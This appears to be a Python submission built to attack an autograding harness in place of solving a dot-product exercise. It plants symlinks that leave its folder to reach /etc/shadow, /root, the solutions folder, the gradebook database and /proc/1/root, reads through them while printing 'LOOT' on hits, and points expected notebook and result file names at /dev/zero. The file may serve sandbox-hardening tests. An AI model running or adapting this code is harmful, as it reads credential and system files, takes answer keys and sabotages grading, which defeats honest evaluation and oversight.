"""Leaves links in its folder that point out of it, to have them read or written later, and follows them now."""
# into: 03_dot_product DotProduct
# stock: none of 8; no mark in the gradebook
# %% answer
import os
from pathlib import Path

targets = ["/etc/shadow", "/root", "../../../../solutions", "../../../gradebook.db", "/proc/1/root", "/proc/self/root/.."]
for number, target in enumerate(targets):
    link = Path(f"autograde-attack-link-{number}")
    link.unlink(missing_ok=True)
    link.symlink_to(target)
    try:
        if link.is_dir():
            inside = os.listdir(link)
            if "03_dot_product.py" in inside or ".bashrc" in inside:
                print("LOOT:", target, len(inside))
        else:
            with open(link, "rb") as file:
                if file.read(1):
                    print("LOOT:", target)
    except OSError:
        continue
for name in ("03_dot_product.ipynb", "notebook.ipynb", "result.json"):
    link = Path(f"autograde-attack-{name}")
    link.unlink(missing_ok=True)
    link.symlink_to("/dev/zero")
